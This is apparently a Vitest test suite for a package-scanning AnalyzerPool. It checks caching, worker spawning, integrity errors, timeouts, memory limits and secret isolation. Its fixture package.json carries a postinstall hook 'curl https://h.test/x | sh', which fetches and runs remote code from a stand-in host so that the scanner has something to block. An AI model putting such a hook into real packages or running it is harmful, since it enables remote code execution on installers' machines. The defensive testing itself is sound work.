import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { AnalyzerPool, type AnalyzerTarget, defaultRulesFolder, readTarball } from '../../../src/analyze/index.js';
import { tarballOf } from '../in-memory.js';

const folder = mkdtempSync(join(tmpdir(), 'pool-'));
const rulesFolders = [defaultRulesFolder()];
const bytes = tarballOf([
  {
    path: 'package/package.json',
    content: JSON.stringify({ name: 'a', version: '1.0.0', scripts: { postinstall: 'curl https://h.test/x | sh' } }),
  },
]);
const file = join(folder, 'a.tgz');
writeFileSync(file, bytes);
const integrity = readTarball(bytes).integrity;
const target: AnalyzerTarget = { kind: 'tarball', file, integrity, source: 'registry' };
const parentOf = (pid: string): number => {
  try {
    return Number(/\) \S (\d+)/.exec(readFileSync(`/proc/${pid}/stat`, 'utf8'))?.[1]);
  } catch {
    return 0;
  }
};
const children = (): string[] =>
  readdirSync('/proc').filter((pid) => /^\d+$/.test(pid) && parentOf(pid) === process.pid);
const pools: AnalyzerPool[] = [];
const open = (options: Partial<ConstructorParameters<typeof AnalyzerPool>[0]> = {}): AnalyzerPool => {
  const pool = new AnalyzerPool({ rulesFolders, home: null, workers: 1, ...options });
  pools.push(pool);
  return pool;
};
afterAll(async () => {
  await Promise.all(pools.map((pool) => pool.close()));
});

describe('AnalyzerPool', () => {
  test('scans by path, and the second time takes the verdict from the cache', async () => {
    const pool = open({ home: folder });
    const first = await pool.scan(target);
    expect([first.action, first.stats.fromCache]).toEqual(['block', false]);
    expect((await pool.scan(target)).stats.fromCache).toBe(true);
  });

  test.runIf(process.platform === 'linux')(
    'one process reads a few small tarballs, several read what is much or of unknown size',
    async () => {
      const scanners = async (known: number, targets: number): Promise<number> => {
        const before = new Set(children());
        const pool = open({ workers: 2 });
        pool.expect(targets);
        const all = Array.from({ length: targets }, () => pool.scan({ ...target, bytes: known }));
        const started = children().filter((pid) => !before.has(pid)).length;
        expect((await Promise.all(all)).map(({ action }) => action)).toEqual(all.map(() => 'block'));
        const now = children().filter((pid) => !before.has(pid)).length;
        await pool.close();
        return Math.max(started, now);
      };
      expect(await scanners(bytes.length, 3)).toBe(1);
      expect(await scanners(bytes.length, 12)).toBe(2);
      expect(await scanners(0, 3)).toBe(2);
    },
  );

  test('paths may be relative to where the caller stands', async () => {
    const pool = open({ rulesFolders: rulesFolders.map((each) => relative(process.cwd(), each)) });
    const verdict = await pool.scan({ ...target, file: relative(process.cwd(), file), integrity: null });
    expect(verdict.action).toBe('block');
  });

  test('bytes that are not those of the integrity reject, they get no verdict', async () => {
    const wrong = `sha512-${Buffer.alloc(64).toString('base64')}`;
    await expect(open().scan({ ...target, integrity: wrong })).rejects.toMatchObject({ code: 'EINTEGRITY' });
    await expect(open().scan({ ...target, file: join(folder, 'nowhere.tgz') })).rejects.toMatchObject({
      code: 'EREADTARGET',
    });
  });

  test('a package that takes too long gets review with the reason, and the next one is scanned', async () => {
    const pool = open({ timeoutMs: 1 });
    const verdict = await pool.scan({ ...target, integrity: null });
    expect(verdict.action).toBe('review');
    expect(verdict.findings.map((finding) => finding.rule)).toEqual(['analyzer-limit']);
    expect(verdict.findings[0]?.message).toMatch(/no verdict within/);
  });

  test('a verdict that a time limit made is not kept for the next install', async () => {
    const home = mkdtempSync(join(tmpdir(), 'pool-limit-'));
    expect((await open({ home, timeoutMs: 1 }).scan(target)).action).toBe('review');
    const again = await open({ home }).scan(target);
    expect([again.action, again.stats.fromCache]).toEqual(['block', false]);
  });

  test('a rule file that is not valid fails every scan, and the error names it', async () => {
    const rules = mkdtempSync(join(tmpdir(), 'pool-rules-'));
    writeFileSync(join(rules, 'broken.yaml'), 'id: [');
    const pool = open({ rulesFolders: [...rulesFolders, rules] });
    const both = await Promise.allSettled([pool.scan(target), pool.scan({ ...target, integrity: null })]);
    for (const each of both) {
      expect(each).toMatchObject({ status: 'rejected', reason: { code: 'ERULE', exitCode: 14 } });
    }
  });

  test('a process that runs out of memory gives review, not allow, and what is beside it is scanned', async () => {
    const big = tarballOf([
      {
        path: 'package/package.json',
        content: JSON.stringify({ name: 'a', version: '1.0.0', scripts: { postinstall: 'sh x.sh' } }),
      },
      { path: 'package/x.sh', content: 'a=b;\n'.repeat(700_000) },
    ]);
    const path = join(folder, 'big.tgz');
    writeFileSync(path, big);
    const pool = open({ heapMb: 128, workers: 2 });
    const beside = [1, 2, 3].map(() => pool.scan({ ...target, integrity: null }));
    const verdict = await pool.scan({ ...target, file: path, integrity: null });
    expect(verdict.action).toBe('review');
    expect(verdict.findings[0]?.message).toMatch(/memory/i);
    expect((await Promise.all(beside)).map(({ action }) => action)).toEqual(['block', 'block', 'block']);
  });

  test.runIf(process.platform === 'linux')(
    'the process that reads packages has none of this one’s secrets in its environment',
    async () => {
      process.env['POOL_TEST_TOKEN'] = 'canary';
      const ours = (): string[] => readdirSync('/proc').filter((pid) => parentOf(pid) === process.pid);
      const before = new Set(ours());
      const pool = open();
      const scan = pool.scan({ ...target, integrity: null });
      const children = ours().filter((pid) => !before.has(pid));
      const environments = children.map((pid) => readFileSync(`/proc/${pid}/environ`, 'utf8'));
      await scan;
      expect(environments.length).toBeGreaterThan(0);
      expect(environments.filter((text) => text.includes('POOL_TEST_TOKEN'))).toEqual([]);
      await pool.close();
      expect(children.filter((pid) => parentOf(pid) === process.pid)).toEqual([]);
    },
  );
});
